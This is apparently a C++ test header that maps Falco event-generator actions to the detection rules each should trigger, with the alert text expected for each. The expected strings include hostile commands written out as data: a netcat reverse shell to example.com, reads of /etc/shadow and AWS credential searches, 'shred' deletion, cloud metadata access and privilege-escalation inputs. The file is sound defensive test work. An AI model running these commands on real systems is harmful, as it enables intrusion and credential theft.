// SPDX-License-Identifier: Apache-2.0
// Issue 18: Falco's event-generator (github.com/falcosecurity/event-generator)
// has one action per Falco rule in events/syscall/*.go. This table says which
// rule each action must raise under `vigil run -r` Falco's three rule files,
// and where the action is reproduced: on the host by falco_actions.sh
// (vigil_e2e_test), or, for the actions the generator skips outside a
// container, inside one privileged podman container by
// falco_container_actions.sh (falco_container_actions_test). The same table is
// docs/rules.md's "Falco's event-generator actions".
#pragma once

#include <fstream>
#include <string>
#include <utility>
#include <vector>

namespace vigil::e2e {

enum class Where { kHost, kContainer };
enum class Fires { kYes, kNo };

struct FalcoAction {
  const char* action;  // events/syscall/<action>.go
  const char* rule;
  Where where;
  Fires fires;
  std::vector<std::pair<const char*, const char*>> fields;  // output field contains text ({tag}, {dir})
  const char* why = "";                                      // for kNo
};

// clang-format off
inline const std::vector<FalcoAction> kFalcoActions = {
    // falco_rules.yaml
    {"directory_traversal_monitored_file_read", "Directory traversal monitored file read", Where::kHost, Fires::kYes,
     {{"fd.name", "/etc/shadow"}, {"proc.cmdline", "/etc/../etc/../etc/shadow"}}},
    {"read_sensitive_file_untrusted", "Read sensitive file untrusted", Where::kHost, Fires::kYes,
     {{"fd.name", "/etc/shadow"}, {"proc.cmdline", "e2e-{tag}-untrusted"}}},
    {"read_sensitive_file_trusted_after_startup", "Read sensitive file trusted after startup", Where::kHost, Fires::kYes,
     {{"fd.name", "/etc/shadow"}, {"proc.name", "httpd"}}},
    {"run_shell_untrusted", "Run shell untrusted", Where::kHost, Fires::kYes, {{"proc.pname", "httpd"}, {"proc.cmdline", "ls > /dev/null"}}},
    {"system_user_interactive", "System user interactive", Where::kHost, Fires::kYes, {{"proc.name", "login"}}},
    {"search_private_keys_or_passwords", "Search Private Keys or Passwords", Where::kHost, Fires::kYes,
     {{"proc.cmdline", "find {dir} -maxdepth 1 -iname id_rsa"}}},
    {"clear_log_activities", "Clear Log Activities", Where::kHost, Fires::kYes,
     {{"fd.name", "{dir}/falco-event-generator-syscall-ClearLogActivities-{tag}/syslog"}}},
    {"remove_bulk_data_from_disk", "Remove Bulk Data from Disk", Where::kHost, Fires::kYes,
     {{"proc.cmdline", "shred -u {dir}/falco-event-generator-syscall-RemoveBulkDataFromDisk-{tag}"}}},
    {"create_symlink_over_sensitive_files", "Create Symlink Over Sensitive Files", Where::kHost, Fires::kYes,
     {{"proc.cmdline", "ln -s /etc {dir}/falco-event-generator-syscall-CreateSymlinkOverSensitiveFiles-{tag}"}}},
    {"create_hardlink_over_sensitive_files", "Create Hardlink Over Sensitive Files", Where::kHost, Fires::kYes,
     {{"proc.cmdline", "ln -v /etc/shadow {dir}/falco-event-generator-syscall-CreateHardlinkOverSensitiveFiles-{tag}"}}},
    {"ptrace_attached_to_process", "PTRACE attached to process", Where::kHost, Fires::kYes, {{"proc.cmdline", "PTRACE_ATTACH"}}},
    {"ptrace_anti_debug_attempt", "PTRACE anti-debug attempt", Where::kHost, Fires::kYes, {{"proc.cmdline", "PTRACE_TRACEME"}}},
    {"find_aws_credentials", "Find AWS Credentials", Where::kHost, Fires::kYes,
     {{"proc.cmdline", "find {dir} -maxdepth 1 -iname .aws/credentials"}}},
    {"execution_from_dev_shm", "Execution from /dev/shm", Where::kHost, Fires::kYes,
     {{"proc.cmdline", "/dev/shm/falco-event-generator-syscall-ExecutionFromDevShm-{tag}.sh"}}},
    {"fileless_execution_via_memfd_create", "Fileless execution via memfd_create", Where::kHost, Fires::kYes,
     {{"proc.cmdline", "run helper.DoNothing"}}},
    {"disallowed_ssh_connection_non_standard_port", "Disallowed SSH Connection Non Standard Port", Where::kHost, Fires::kYes,
     {{"proc.cmdline", "ssh user@example.com -p 443"}, {"fd.name", "192.0.2.80:443"}}},
    {"netcat_remote_code_execution_in_container", "Netcat Remote Code Execution in Container", Where::kContainer, Fires::kYes,
     {{"proc.cmdline", "nc -e /bin/sh example.com 22"}}},
    {"packet_socket_created_in_container", "Packet socket created in container", Where::kContainer, Fires::kYes,
     {{"proc.cmdline", "event-generator packet_socket"}}},
    {"debugfs_launched_in_privilleged_container", "Debugfs Launched in Privileged Container", Where::kContainer, Fires::kYes,
     {{"proc.cmdline", "debugfs -V"}}},
    {"detect_release_agent_file_container_escapes", "Detect release_agent File Container Escapes", Where::kContainer,
     Fires::kYes, {{"fd.name", "/release_agent"}}},
    {"drop_and_execute_new_binary_in_container", "Drop and execute new binary in container", Where::kContainer, Fires::kYes,
     {{"proc.exepath", "/bin/falco-event-generator-syscall-DropAndExecuteNewBinaryInContainer-{tag}"}}},
    // falco-incubating_rules.yaml
    {"modify_shell_configuration_file", "Modify Shell Configuration File", Where::kHost, Fires::kYes,
     {{"fd.name", "{dir}/falco-event-generator-syscall-ModifyShellConfigurationFile-{tag}/.bashrc"}}},
    {"schedule_cron_jobs", "Schedule Cron Jobs", Where::kHost, Fires::kYes, {{"proc.cmdline", "crontab -l"}}},
    {"read_ssh_information", "Read ssh information", Where::kHost, Fires::kYes,
     {{"fd.name", "/home/falco-event-generator-syscall-SshDirectory-{tag}/.ssh/known_hosts"}}},
    {"adding_ssh_keys_to_authorized_keys", "Adding ssh keys to authorized_keys", Where::kHost, Fires::kYes,
     {{"fd.name", "/home/falco-event-generator-syscall-SshDirectory-{tag}/.ssh/authorized_keys"}}},
    {"db_program_spawned_process", "DB program spawned process", Where::kHost, Fires::kYes, {{"proc.pname", "mysqld"}}},
    {"change_thread_namespace", "Change thread namespace", Where::kHost, Fires::kYes, {{"proc.cmdline", "setns(0, 0)  # e2e-{tag}"}}},
    {"system_procs_network_activity", "System procs network activity", Where::kHost, Fires::kYes,
     {{"proc.name", "sha1sum"}, {"fd.name", "10.2.3.4:8192"}}},
    {"program_run_with_disallowed_http_proxy_env", "Program run with disallowed http proxy env", Where::kHost, Fires::kYes,
     {{"proc.cmdline", "curl http://example.com"}, {"proc.env", "HTTP_PROXY=http://my.http.proxy.com"}}},
    {"non_sudo_setuid", "Non sudo setuid", Where::kHost, Fires::kYes, {{"proc.name", "child"}, {"proc.cmdline", "e2e-{tag}-setuid"}}},
    {"unprivileged_delegation_of_page_faults_handling_to_a_userspace_process",
     "Unprivileged Delegation of Page Faults Handling to a Userspace Process", Where::kHost, Fires::kYes,
     {{"proc.name", "child"}, {"proc.cmdline", "e2e-{tag}-uffd"}}},
    {"user_mgmt_binaries", "User mgmt binaries", Where::kHost, Fires::kYes, {{"proc.name", "vipw"}}},
    {"create_files_below_dev", "Create files below dev", Where::kHost, Fires::kYes,
     {{"fd.name", "/dev/falco-event-generator-syscall-CreateFilesBelowDev-{tag}"}}},
    {"launch_suspicious_network_tool_on_host", "Launch Suspicious Network Tool on Host", Where::kHost, Fires::kYes,
     {{"proc.cmdline", "nmap -sn 172.17.0.1/32"}}},
    {"delete_or_rename_shell_history", "Delete or rename shell history", Where::kHost, Fires::kYes,
     {{"fd.name", "{dir}/falco-event-generator-syscall-DeleteOrRenameShellHistory-{tag}/ash_history"}}},
    {"set_setuid_or_setgid_bit", "Set Setuid or Setgid bit", Where::kHost, Fires::kYes,
     {{"proc.cmdline", "chmod u+s {dir}/falco-event-generator-syscall-SetSetuidOrSetgidBit-{tag}"}}},
    {"potential_local_privilege_escalation_via_environment_variables_misuse",
     "Potential Local Privilege Escalation via Environment Variables Misuse", Where::kHost, Fires::kYes,
     {{"proc.cmdline", "sh -c id"}, {"proc.env", "GLIBC_TUNABLES=glibc.tune.hwcaps=-WAITED,glibc.tune.secrets=2"}}},
    {"unexpected_udp_traffic", "Unexpected UDP Traffic", Where::kHost, Fires::kYes,
     {{"proc.cmdline", "-u example.com 22"}, {"fd.name", "192.0.2.80:22"}}},
    {"change_namespace_privileges_via_unshare", "Change namespace privileges via unshare", Where::kContainer, Fires::kYes,
     {{"proc.name", "unshare"}}},
    {"contact_ec2_instance_metadata_service_from_container", "Contact EC2 Instance Metadata Service From Container",
     Where::kContainer, Fires::kYes, {{"proc.name", "nc"}, {"fd.name", "169.254.169.254:80"}}},
    {"launch_package_management_process_in_container", "Launch Package Management Process in Container", Where::kContainer,
     Fires::kYes, {{"proc.cmdline", "apt-get --version"}}},
    {"launch_suspicious_network_tool_in_container", "Launch Suspicious Network Tool in Container", Where::kContainer,
     Fires::kYes, {{"proc.cmdline", "nmap -sn 192.168.1.0/24"}}},
    {"launch_remote_file_copy_tools_in_container", "Launch Remote File Copy Tools in Container", Where::kContainer,
     Fires::kYes, {{"proc.name", "scp"}}},
    {"mount_launched_in_privileged_container", "Mount Launched in Privileged Container", Where::kContainer, Fires::kYes,
     {{"proc.cmdline", "mount -o"}}},
    {"launch_ingress_remote_file_copy_tools_in_container", "Launch Ingress Remote File Copy Tools in Container",
     Where::kContainer, Fires::kYes, {{"proc.cmdline", "wget -V"}}},
    {"read_environment_variable_from_proc_files", "Read environment variable from /proc files", Where::kContainer,
     Fires::kYes, {{"proc.name", "cat"}, {"fd.name", "/environ"}}},
    // falco-sandbox_rules.yaml (the disabled ones enabled by the test's override file)
    {"read_shell_configuration_file", "Read Shell Configuration File", Where::kHost, Fires::kYes,
     {{"fd.name", "{dir}/falco-event-generator-syscall-ReadShellConfigurationFile-{tag}/.bashrc"}}},
    {"write_below_binary_dir", "Write below binary dir", Where::kHost, Fires::kYes,
     {{"fd.name", "/bin/falco-event-generator-syscall-WriteBelowBinaryDir-{tag}"}}},
    {"write_below_monitored_dir", "Write below monitored dir", Where::kHost, Fires::kYes,
     {{"fd.name", "/lib/falco-event-generator-syscall-WriteBelowMonitoredDir-{tag}"}}},
    {"write_below_etc", "Write below etc", Where::kHost, Fires::kYes, {{"fd.name", "/etc/falco-event-generator-syscall-WriteBelowEtc-{tag}"}}},
    {"write_below_root", "Write below root", Where::kHost, Fires::kYes,
     {{"fd.name", "/root/falco-event-generator-syscall-WriteBelowRoot-{tag}"}}},
    {"write_below_rpm_database", "Write below rpm database", Where::kHost, Fires::kYes,
     {{"fd.name", "/var/lib/rpm/falco-event-generator-syscall-WriteBelowRpmDatabase-{tag}"}}},
    {"modify_binary_dirs", "Modify binary dirs", Where::kHost, Fires::kYes,
     {{"evt.args", "/bin/true.falco-event-generator-syscall-ModifyBinaryDirs-{tag}"}}},
    {"mkdir_binary_dirs", "Mkdir binary dirs", Where::kHost, Fires::kYes,
     {{"evt.arg.path", "/bin/falco-event-generator-syscall-MkdirBinaryDirs-{tag}"}}},
    // fd.ip of a listen: the bound address (fixed here, condition_test)
    {"interpreted_procs_inbound_network_activity", "Interpreted procs inbound network activity", Where::kHost, Fires::kYes,
     {{"proc.name", "lua"}, {"fd.name", "192.0.2.80:"}}},
    {"interpreted_procs_outbound_network_activity", "Interpreted procs outbound network activity", Where::kHost, Fires::kYes,
     {{"proc.name", "lua"}, {"fd.name", "192.0.2.81:53"}}},
    {"create_hidden_files_or_directories", "Create Hidden Files or Directories", Where::kHost, Fires::kYes,
     {{"fd.name", "{dir}/.falco-event-generator-syscall-CreateHiddenFilesOrDirectories-{tag}"}}},
    {"detect_crypto_miners_using_the_stratum_protocol", "Detect crypto miners using the Stratum protocol", Where::kHost, Fires::kYes,
     {{"proc.name", "echo"}, {"proc.cmdline", "-o stratum+tcp -u user -p pass"}}},
    {"sudo_potential_privilege_escalaton", "Sudo Potential Privilege Escalation", Where::kHost, Fires::kYes,
     {{"proc.cmdline", "sudoedit -u daemon -s ls\\"}}},
    {"polkit_local_privilege_escalation_vulnerability_cve20214034",
     "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)", Where::kHost, Fires::kYes, {{"proc.name", "pkexec"}}},
    // evt.buffer: the received datagram's bytes, CAFEBABE (issue 18)
    {"java_process_class_file_download", "Java Process Class File Download", Where::kHost, Fires::kYes,
     {{"proc.name", "java"}, {"evt.type", "recvfrom"}, {"fd.name", "127.0.0.1:1234"}}},
    {"kubernetes_client_tool_launched_in_container", "Kubernetes Client Tool Launched in Container", Where::kContainer,
     Fires::kYes,
     {{"proc.name", "kubectl"}, {"proc.cmdline", "/tmp/falco-event-generator-syscall-KubernetesClientToolLaunchedInContainer-"}}},
    {"container_drift_detected_chmod", "Container Drift Detected (chmod)", Where::kContainer, Fires::kYes,
     {{"proc.cmdline", "chmod 755 /tmp/falco-event-generator-syscall-ContainerDriftDetectedChmod-"}}},
    {"container_drift_detected_open_create", "Container Drift Detected (open+create)", Where::kContainer, Fires::kYes,
     {{"proc.cmdline", "/tmp/falco-event-generator-syscall-ContainerDriftDetectedOpenCreate-{tag} 0755"}}},
    {"modify_container_entrypoint", "Modify Container Entrypoint", Where::kContainer, Fires::kYes,
     {{"proc.name", "event-generator"}, {"fd.name", "/proc/self/fd/1"}}},
    {"decoding_payload_in_container", "Decoding Payload in Container", Where::kContainer, Fires::kYes,
     {{"proc.cmdline", "echo ZGVjb2RlZF9ieV9ldmVudC1nZW5lcmF0b3I= | base64 -d"}}},
};
// clang-format on

// The rules the actions target that Falco ships disabled, enabled by an
// override file (`- rule: X` / `enabled: true`); returns its path.
inline std::string WriteFalcoEnable(const std::string& dir) {
  const std::string path = dir + "/falco-enable.yaml";
  std::ofstream out(path);
  for (const char* rule :
       {"Read Shell Configuration File", "Interpreted procs inbound network activity",
        "Interpreted procs outbound network activity", "Create Hidden Files or Directories",
        "Java Process Class File Download", "Container Drift Detected (chmod)",
        "Container Drift Detected (open+create)", "Modify Container Entrypoint"})
    out << "- rule: " << rule << "\n  enabled: true\n";
  return path;
}

}  // namespace vigil::e2e
